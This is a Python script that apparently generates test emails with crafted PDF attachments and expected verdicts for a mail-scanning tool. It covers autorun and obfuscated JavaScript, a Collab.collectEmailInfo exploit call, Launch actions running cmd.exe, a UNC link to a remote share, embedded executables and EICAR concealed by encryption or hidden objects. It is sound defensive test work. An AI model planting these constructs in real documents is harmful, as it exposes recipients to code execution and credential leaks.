#!/usr/bin/python3
"""Write the cases with PDF files, made by pdf_files.py.

All of them are made up; none of the programs in them does anything. The
results are checked in. Usage: tests/cases/make_pdf.py [NAME…]
"""

import base64
import importlib.util
import json
import pathlib
import sys

import pdf_files as pdf
import qr

HERE = pathlib.Path(__file__).resolve().parent
CASES = {}


def _load():
    spec = importlib.util.spec_from_file_location("make_cases",
                                                  HERE / "make-cases.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


make = _load()
PROGRAM = make.program()


def case(function):
    CASES[function.__name__.replace("_", "-")] = function
    return function


def with_file(data, name="invoice.pdf", text="Please find it attached.",
              kind="application/pdf"):
    """A mail with one file."""
    encoded = base64.encodebytes(data).decode().replace("\n", "\r\n")
    return (
        "From: Anna Weber <anna@example.org>\r\n"
        "To: Ben Roth <ben@example.org>\r\n"
        "Subject: Invoice\r\nDate: Mon, 08 Jan 2024 10:20:30 +0100\r\n"
        "Message-ID: <20240108102030.7@example.org>\r\n"
        "MIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=\"=_sep\"\r\n\r\n"
        "--=_sep\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n%s\r\n"
        "--=_sep\r\nContent-Type: %s; name=\"%s\"\r\n"
        "Content-Disposition: attachment; filename=\"%s\"\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--=_sep--\r\n"
        % (text, kind, name, name, encoded)).encode()


def verdict(name, *symbols, **more):
    actions = {"clean": "allow", "malware": "quarantine",
               "suspicious": "flag", "unscannable": "flag"}
    return dict(verdict=name, action=actions[name], symbols=list(symbols),
                **more)


def clean(*only, **more):
    return dict(verdict="clean", action="allow", only=list(only),
                symbols=list(only), **more)


# --- scripts -----------------------------------------------------------------

FORM = (b"/AcroForm<</Fields[<</FT/Tx/T(total)/V(0)/AA<</C%s/K%s>>>>]>>"
        % (pdf.script(b'AFSimple_Calculate("SUM", ["a", "b"]);'),
           pdf.script(b"AFNumber_Keystroke(2, 0, 0, 0, '', true);")))


@case
def pdf_form_control():
    """A form that calculates, and shows its first page when it is opened."""
    data = pdf.Pdf(b"/OpenAction[3 0 R/XYZ null null 0]" + FORM).bytes()
    return with_file(data, "tax.pdf"), clean("PDF_JAVASCRIPT")


@case
def pdf_javascript_open():
    data = pdf.Pdf(b"/OpenAction" + pdf.script(b"app.alert('Hello');"))
    return with_file(data.bytes()), clean(
        "PDF_JAVASCRIPT", "PDF_JAVASCRIPT_AUTORUN",
        parts=[{"path": "2/javascript", "size": 19}])


@case
def pdf_javascript_hidden():
    """A script that is text until it runs, in an object stream, run by
    name."""
    code = (b"var c=unescape('%61%70%70');var s=String.fromCharCode(97,108);"
            b"eval(c+s);")
    data = pdf.Pdf(b"/Names<</JavaScript<</Names[(a)5 0 R]>>>>")
    data.add(pdf.action(b"JavaScript", b"/JS 6 0 R"))
    data.add(pdf.stream(code, flate=True))
    return with_file(data.packed(predictor=True)), verdict(
        "suspicious", "PDF_JAVASCRIPT_HIDDEN",
        parts=[{"path": "2/javascript", "size": len(code)}])


@case
def pdf_javascript_exploit():
    code = b"this.x = Collab.collectEmailInfo({subj: '', msg: s});"
    data = pdf.Pdf(page=b"/AA<</O" + pdf.script(code) + b">>").bytes()
    return with_file(data), verdict("malware", "PDF_JAVASCRIPT_EXPLOIT")


@case
def pdf_obfuscated():
    """Words of the file written as numbers."""
    data = pdf.Pdf(b"/Open#41ction<</S/J#61vaScript/J#53(app.beep\\(0\\);)>>")
    return with_file(data.bytes()), verdict(
        "suspicious", "PDF_OBFUSCATED_NAME", "PDF_JAVASCRIPT_AUTORUN")


@case
def pdf_obfuscated_control():
    """A space in a font's name has to be written so."""
    data = pdf.Pdf(page=b"/Resources<</Font<</Lime#20Green"
                        b"<</BaseFont/Caf#c3#a9>>>>>>")
    return with_file(data.bytes()), clean()


# --- what is started ------------------------------------------------------------

@case
def pdf_launch():
    data = pdf.Pdf(b"/OpenAction" + pdf.action(
        b"Launch", b"/Win<</F(cmd.exe)/P(/c echo hello)>>"))
    return with_file(data.bytes()), verdict("malware", "PDF_LAUNCH")


@case
def pdf_launch_file():
    """A button of a manual that opens its second volume."""
    data = pdf.Pdf(page=b"/Annots[<</Subtype/Link/A%s>>]" % pdf.action(
        b"Launch", b"/F<</Type/Filespec/F(volume2.pdf)>>"))
    return with_file(data.bytes()), clean("PDF_LAUNCH_FILE")


@case
def pdf_opens_link():
    data = pdf.Pdf(b"/OpenAction" + pdf.action(
        b"URI", b"/URI(https://www.example.com/start)"))
    return with_file(data.bytes()), clean("PDF_OPENS_LINK")


@case
def pdf_opens_remote():
    """Windows logs in to the server that is named."""
    data = pdf.Pdf(page=b"/AA<</O" + pdf.action(
        b"GoToE", b"/F(\\\\\\\\203.0.113.7\\\\share\\\\a)/D[0/Fit]") + b">>")
    return with_file(data.bytes()), verdict("malware", "PDF_OPENS_REMOTE")


@case
def pdf_updated():
    """An update gives the file something to do."""
    data = pdf.updated(pdf.Pdf().bytes(), [
        (1, b"<</Type/Catalog/Pages 2 0 R/OpenAction%s>>"
            % pdf.script(b"app.beep(0);"))])
    return with_file(data), clean("PDF_JAVASCRIPT", "PDF_JAVASCRIPT_AUTORUN",
                                  "PDF_UPDATED_ACTION")


@case
def pdf_updated_control():
    """An update that fills in a field."""
    data = pdf.updated(pdf.Pdf().bytes(), [
        (1, b"<</Type/Catalog/Pages 2 0 R/Lang(en)>>")])
    return with_file(data), clean()


# --- forms ------------------------------------------------------------------------

SUBMIT = pdf.action(b"SubmitForm", b"/F<</FS/URL/F(https://forms.example.com"
                                   b"/send)>>")


@case
def pdf_submit_form():
    data = pdf.Pdf(b"/AcroForm<</Fields[<</FT/Tx/T(name)>><</FT/Btn/A%s>>]>>"
                   % SUBMIT)
    return with_file(data.bytes()), clean("PDF_SUBMIT_FORM")


@case
def pdf_password_form():
    data = pdf.Pdf(b"/AcroForm<</Fields[<</FT/Tx/T(word)/Ff 8192>>"
                   b"<</FT/Btn/A%s>>]>>" % SUBMIT)
    return with_file(data.bytes()), verdict("suspicious", "PDF_PASSWORD_FORM")


@case
def pdf_rich_media():
    data = pdf.Pdf(page=b"/Annots[<</Subtype/RichMedia/RichMediaContent<<>>"
                        b">>]")
    return with_file(data.bytes()), clean("PDF_RICH_MEDIA")


# --- files inside -------------------------------------------------------------------

@case
def pdf_embedded_program():
    data = pdf.with_files((b"report.exe", PROGRAM)).bytes()
    return with_file(data), verdict(
        "malware", "PDF_EMBEDDED_PROGRAM",
        parts=[{"path": "2/report.exe", "size": len(PROGRAM)}])


@case
def pdf_embedded_nameless():
    """No specification of a file leads to it."""
    data = pdf.Pdf()
    data.add(pdf.stream(PROGRAM, b"/Type/EmbeddedFile", flate=True))
    return with_file(data.bytes()), verdict(
        "malware", "PDF_EMBEDDED_PROGRAM",
        parts=[{"path": "2/file", "size": len(PROGRAM)}])


@case
def pdf_embedded_in_archive():
    data = pdf.with_files((b"a.zip", make.archive(("b.exe", PROGRAM))))
    return with_file(data.bytes()), verdict("malware", "PDF_EMBEDDED_PROGRAM")


@case
def pdf_embedded_control():
    """An invoice with its data beside it, as many laws want."""
    data = pdf.with_files((b"factur-x.xml", b"<?xml version='1.0'?><Invoice/>"),
                          catalog=b"/AF[6 0 R]").bytes()
    return with_file(data), clean(parts=[{"path": "2/factur-x.xml"}])


@case
def pdf_opens_embedded():
    """A script that saves a document out of the file and opens it."""
    code = b"this.exportDataObject({cName: 'order.doc', nLaunch: 2});"
    data = pdf.with_files((b"order.doc", make.docx()),
                          catalog=b"/OpenAction" + pdf.script(code)).bytes()
    return with_file(data), verdict("malware", "PDF_OPENS_EMBEDDED",
                                    parts=[{"path": "2/order.doc"}])


# --- where it hides -------------------------------------------------------------------

def _eicar(name, data, *symbols):
    return with_file(data, name), verdict("malware", "EICAR_TEST_FILE",
                                          *symbols)


@case
def pdf_damaged():
    """No table, no lengths, no ends."""
    data = pdf.with_files((b"e.com", make.EICAR), flate=False).bytes(
        xref=False).replace(b"/Length 68", b"").replace(b"endobj", b"")
    return _eicar("damaged.pdf", data)


@case
def pdf_behind_junk():
    data = b"x" * 900 + pdf.with_files((b"e.com", make.EICAR)).bytes()
    return _eicar("junk.pdf", data)


@case
def pdf_filters():
    """Packed several times."""
    packed = make.EICAR.hex().encode() + b">"
    data = pdf.with_files((b"e.com", packed),
                          entries=b"/Filter[/FlateDecode/ASCIIHexDecode]")
    return _eicar("filters.pdf", data.bytes())


@case
def pdf_hidden_object():
    """The table points into a stream, where others see no object."""
    inner = (b"5 0 obj\n%s\nendobj" % pdf.stream(
        make.EICAR, b"/Type/EmbeddedFile"))
    data = pdf.Pdf().set(6, pdf.stream(inner))
    data.set(7, b"<</F(e.com)/EF<</F 5 0 R>>>>")
    plain = data.bytes()
    wrong = b"0000000000 00000 f \n"
    right = b"%010d 00000 n \n" % plain.index(b"5 0 obj")
    return _eicar("hidden.pdf", plain.replace(wrong, right),
                  "PDF_HIDDEN_OBJECT")


@case
def pdf_encrypted_empty():
    """Every reader opens it without asking."""
    data = pdf.Encrypted()
    data.set(5, pdf.stream(data.cipher(5, make.EICAR), b"/Type/EmbeddedFile"))
    return _eicar("encrypted.pdf", data.bytes())


@case
def pdf_with_password():
    data = pdf.Encrypted(password=b"hunter7")
    data.set(5, pdf.stream(data.cipher(5, make.EICAR), b"/Type/EmbeddedFile"))
    return with_file(data.bytes(), "encrypted.pdf",
                     "The password is: hunter7"), verdict(
        "malware", "EICAR_TEST_FILE", "PDF_WITH_PASSWORD")


@case
def pdf_encrypted():
    data = pdf.Encrypted(password=b"not told here")
    return with_file(data.bytes(), "encrypted.pdf"), verdict(
        "unscannable", "ENCRYPTED_CONTENT", unscanned=["encrypted"])


@case
def pdf_trailer_only():
    """No object at all: what is needed stands in the trailer."""
    data = (b"%%PDF-1.\ntrailer<</Root<</Pages<<>>/OpenAction%s>>>>"
            % pdf.action(b"Launch", b"/F(run.exe)"))
    return with_file(data), verdict("malware", "PDF_LAUNCH")


@case
def pdf_link():
    data = pdf.Pdf(page=pdf.link(b"http://203.0.113.77/session")).packed()
    return with_file(data), verdict("suspicious", "LINK_IP_ADDRESS")


# --- what the pages show --------------------------------------------------------------

ADDRESS = "http://203.0.113.77/pay"
SHOWN = verdict("suspicious", "LINK_IP_ADDRESS")


def _code(grid, scale=4):
    """Rows of bits, dark is one."""
    rows = []
    for row in qr.with_quiet_zone(grid):
        bits = "".join(("1" if dark else "0") * scale for dark in row)
        bits += "0" * (-len(bits) % 8)
        rows += [bytes(int(bits[i:i + 8], 2)
                       for i in range(0, len(bits), 8))] * scale
    return rows


def _picture(entries, data):
    page = b"/Resources<</XObject<</I 5 0 R>>>>"
    side = (len(qr.matrix(ADDRESS)) + 8) * 4
    return pdf.Pdf(page=page, contents=b"q 200 0 0 200 90 500 cm/I Do Q").set(
        5, pdf.stream(data, b"/Type/XObject/Subtype/Image/Width %d/Height %d%s"
                      % (side, side, entries), flate=True)).packed()


@case
def pdf_qr_picture():
    """A code as a mask of bits."""
    data = b"".join(_code(qr.matrix(ADDRESS)))
    return with_file(_picture(b"/ImageMask true/BitsPerComponent 1"
                              b"/Decode[1 0]", data)), SHOWN


@case
def pdf_qr_palette():
    """The same as numbers of colours, with a predictor."""
    rows = _code(qr.matrix(ADDRESS))
    packed, above = b"", bytes(len(rows[0]))
    for row in rows:
        packed += b"\2" + bytes((a - b) & 255 for a, b in zip(row, above))
        above = row
    return with_file(_picture(
        b"/BitsPerComponent 1/ColorSpace[/Indexed/DeviceRGB 1<ffffff102030>]"
        b"/DecodeParms<</Predictor 15/BitsPerComponent 1/Columns %d>>"
        % ((len(qr.matrix(ADDRESS)) + 8) * 4), packed)), SHOWN


def _squares(grid, unit, left, bottom):
    """Rectangles for runs of dark modules."""
    for y, row in enumerate(reversed(grid)):
        x = 0
        while x < len(row):
            run = 0
            while x + run < len(row) and row[x + run]:
                run += 1
            if run:
                yield (left + x * unit, bottom + y * unit, run * unit, unit)
            x += run + 1


@case
def pdf_qr_drawn():
    """Squares, each filled for itself."""
    contents = b"0 g " + b"".join(
        b"%g %g %g %g re f\n" % square
        for square in _squares(qr.matrix(ADDRESS), 3.3, 200, 400))
    return with_file(pdf.Pdf(contents=contents).bytes()), SHOWN


@case
def pdf_qr_drawn_form():
    """One path in a form, upside down and turned upright by its matrix."""
    path = b"".join(b"%g %g m %g %g l %g %g l %g %g l h\n" % (
        x, y, x + w, y, x + w, y + h, x, y + h)
        for x, y, w, h in _squares(qr.matrix(ADDRESS), 10, 0, 0))
    data = pdf.Pdf(page=b"/Resources<</XObject<</F 5 0 R>>>>",
                   contents=b"q .3 0 0 .3 200 400 cm/F Do Q")
    data.set(5, pdf.stream(b"0 0 0 1 k " + path + b"f", b"/Subtype/Form/BBox"
                           b"[0 0 900 900]", flate=True))
    return with_file(data.bytes()), SHOWN


@case
def pdf_drawn_control():
    """A table and a diagram."""
    contents = b"".join(b"0.2 g %d %d 20 %d re f\n" % (40 + i * 22, 60, i * 9)
                        for i in range(20))
    contents += b"".join(b"0.9 g %d %d 40 12 re f 0 g %d %d 40 1 re f\n" % (
        40 + i % 8 * 42, 400 + i // 8 * 14, 40 + i % 8 * 42, 400 + i // 8 * 14)
        for i in range(80))
    return with_file(pdf.Pdf(contents=contents).bytes()), clean()


def _listed(url):
    return dict(verdict="phishing", action="quarantine", list=[url],
                symbols=["KNOWN_BAD_URL"])


@case
def pdf_text_link():
    """A link that is only text, in pieces as kerning makes them."""
    contents = (b"BT/F 12 Tf 72 700 Td[(See)-300(htt)20(ps://www.exam)15"
                b"(ple.com/pa)]TJ(ge)Tj 0 -14 Td(and more)Tj ET")
    data = pdf.Pdf(contents=contents)
    return with_file(data.bytes()), _listed(
        "https://www.example.com/page")


@case
def pdf_text_link_codes():
    """The same by numbers of glyphs."""
    text = "www.example.com/sign-in"
    codes = {c: i + 3 for i, c in enumerate(sorted(set(text)))}
    shown = "".join("%04x" % codes[c] for c in text).encode()
    table = b"".join(b"<%04x> <%04x>\n" % (i, ord(c))
                     for c, i in codes.items())
    data = pdf.Pdf(page=b"/Resources<</Font<</F 5 0 R>>>>",
                   contents=b"BT/F 9 Tf 72 700 Td<%s>Tj ET" % shown)
    data.set(5, b"<</Type/Font/Subtype/Type0/ToUnicode 6 0 R>>")
    data.set(6, pdf.stream(b"1 begincodespacerange <0000> <ffff> "
                           b"endcodespacerange %d beginbfchar\n%sendbfchar"
                           % (len(codes), table), flate=True))
    return with_file(data.bytes()), _listed(
        "http://www.example.com/sign-in")


def write(name):
    message, expect = CASES[name]()
    folder = HERE / name
    folder.mkdir(exist_ok=True)
    (folder / "message.eml").write_bytes(message)
    why = " ".join((CASES[name].__doc__ or "").split())
    if why:
        expect = dict(why=why, **expect)
    (folder / "expect.json").write_text(
        json.dumps(expect, indent="\t", ensure_ascii=False) + "\n")


def main(names):
    for name in names or CASES:
        write(name)
    print("%d cases written" % len(names or CASES))


if __name__ == "__main__":
    main(sys.argv[1:])
